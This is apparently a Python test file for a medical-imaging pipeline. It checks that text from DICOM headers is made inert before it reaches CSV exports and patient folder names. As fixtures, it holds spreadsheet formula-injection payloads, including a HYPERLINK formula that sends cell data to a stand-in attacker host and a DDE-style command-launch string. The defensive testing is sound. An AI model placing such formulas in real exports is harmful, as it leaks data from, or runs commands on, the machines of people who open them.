"""Text from DICOM headers reaching the outputs (issue 16): CSV cells are inert for
spreadsheets and free of control bytes; patient folders are unique whatever the PatientID."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from pipeline.core.config import load_config
from pipeline.core.files import csv_cell
from pipeline.core.records import ErrorRecord, StudyRecord
from pipeline.longitudinal.indeterminate import indeterminate_records
from pipeline.outputs.contract import patient_folder_name, study_dir, write_cohort_csv, write_errors_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1",
                                  "-2+3-cmd"])
def test_a_formula_is_made_inert(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.5", "+3", "-0.25", "1e-05", "ABL-002", "2024-01-02", "", "PSN-0A1B"])
def test_numbers_and_plain_text_are_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def test_control_bytes_are_removed_but_line_breaks_kept() -> None:
    assert csv_cell("bad\x00 byte\x01\x1b[31m\x7f here\nnext") == "bad byte[31m here\nnext"


def _read(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text())))


def test_cohort_and_errors_csv_carry_no_live_formula_from_a_header(tmp_path: Path) -> None:
    study = StudyRecord(FORMULA, "1.2.3", dt.date(2024, 1, 2), "MR")
    write_cohort_csv(tmp_path, indeterminate_records([study], "no post-contrast series", load_config().rules))
    (row,) = _read(tmp_path / "cohort.csv")
    assert row["patient_id"] == "'" + FORMULA
    write_errors_csv(tmp_path, [ErrorRecord("/x/=cmd.dcm", FORMULA, "1.2.3", "", "ingest",
                                            "=HYPERLINK(\"x\") in SeriesDescription\x00\x07")])
    (err,) = _read(tmp_path / "errors.csv")
    assert err["patient_id"] == "'" + FORMULA and err["reason"] == "'=HYPERLINK(\"x\") in SeriesDescription"
    assert "\x00" not in (tmp_path / "errors.csv").read_text()


def test_review_export_patient_id_is_inert(tmp_path: Path) -> None:
    from pipeline.review.db import export_csv, open_engine, sync_worklist
    from tests.review_support import flagged

    engine = open_engine(f"sqlite:///{tmp_path / 'review.sqlite'}")
    sync_worklist(engine, [flagged("4.1", patient_id=FORMULA)])
    (row,) = _read(export_csv(engine, tmp_path / "review.csv"))
    assert row["patient_id"] == "'" + FORMULA


@pytest.mark.parametrize(("a", "b"), [("ABL-002/", "ABL-002"), ("ABL 002", "ABL_002"), ("A/B", "A_B"),
                                      ("x" * 200, "x" * 200 + "y"), ("..", "unknown")])
def test_patient_ids_cleaned_alike_get_different_folders(tmp_path: Path, a: str, b: str) -> None:
    dirs = [study_dir(tmp_path, StudyRecord(pid, "1.2.3", dt.date(2024, 1, 2), "")) for pid in (a, b)]
    assert dirs[0] != dirs[1]
    for d in dirs:
        assert d.parent.parent == tmp_path / "patients" and len(d.parent.name) <= 64


def test_a_safe_patient_id_is_its_own_folder() -> None:
    assert patient_folder_name("ABL-002") == "ABL-002"
    assert patient_folder_name("PSN-0123456789ABCDEF") == "PSN-0123456789ABCDEF"
